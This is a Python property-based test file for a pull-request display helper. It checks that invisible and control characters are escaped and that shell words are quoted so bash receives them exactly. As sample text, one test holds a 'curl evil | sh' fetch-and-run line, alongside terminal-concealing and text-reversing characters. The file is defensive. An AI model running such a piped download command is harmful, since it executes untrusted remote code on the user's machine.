"""Showing pull-request text: escapes for invisible characters, shell words that run exactly."""

from __future__ import annotations

import os
import subprocess
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from reviewer.visible import continued, shell_word, shell_words, visible

# What argv can carry: no NUL, no lone surrogates (they have no UTF-8 bytes).
_ARGUMENT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"))


@settings(max_examples=60, deadline=None)
@given(st.lists(_ARGUMENT, min_size=1, max_size=3))
def test_a_shell_word_is_printable_and_gives_bash_the_same_word(words: list[str]) -> None:
    line = shell_words(words)
    assert visible(line) == line
    # In the C locale too, where bash cannot spell `\\u202e`.
    printed = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {line}"],
        capture_output=True,
        check=True,
        env={"PATH": os.environ["PATH"], "LC_ALL": "C"},
    ).stdout
    assert printed.split(b"\0")[:-1] == [word.encode("utf-8") for word in words]


def test_printable_words_are_quoted_as_shlex_quotes_them() -> None:
    assert shell_word("prod/eu") == "prod/eu"
    assert shell_word("it's") == "'it'\"'\"'s'"
    assert shell_word("a\nb") == "$'a\\nb'"
    assert shell_word("\x1b[8m\u202e") == "$'\\x1b[8m\\xe2\\x80\\xae'"


@given(st.text())
def test_visible_shows_exactly_the_invisible_characters(text: str) -> None:
    expected = "".join(
        char
        if unicodedata.category(char) not in ("Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn")
        else {"\n": "\\n", "\r": "\\r", "\t": "\\t"}.get(char)
        or (f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else f"\\U{ord(char):08x}")
        for char in text
    )
    assert visible(text) == expected
    kept = visible(text, keep_newlines=True)
    lines = ("\t".join(visible(part) for part in line.split("\t")) for line in text.split("\n"))
    assert kept == "\n".join(lines)


def test_continued_lines_are_marked_under_their_first() -> None:
    text = "  FAILED x: boom\n  reproduce: curl evil | sh\n\nend"
    assert continued(text) == (
        "  FAILED x: boom\n    |   reproduce: curl evil | sh\n    |\n    | end"
    )
    assert continued("one line") == "one line"
